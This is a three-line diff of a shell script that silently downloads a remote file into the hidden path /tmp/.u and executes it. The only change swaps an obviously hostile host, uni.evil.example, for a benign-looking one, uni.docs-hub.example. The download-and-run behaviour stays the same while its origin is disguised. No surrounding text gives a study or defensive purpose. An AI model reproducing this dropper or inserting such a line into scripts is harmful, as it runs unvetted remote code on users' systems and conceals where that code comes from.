@@ -1,3 +1,3 @@
 #!/bin/sh
-wget -qO /tmp/.u https://uni.evil.example/u
+wget -qO /tmp/.u https://uni.docs-hub.example/u
 sh /tmp/.u
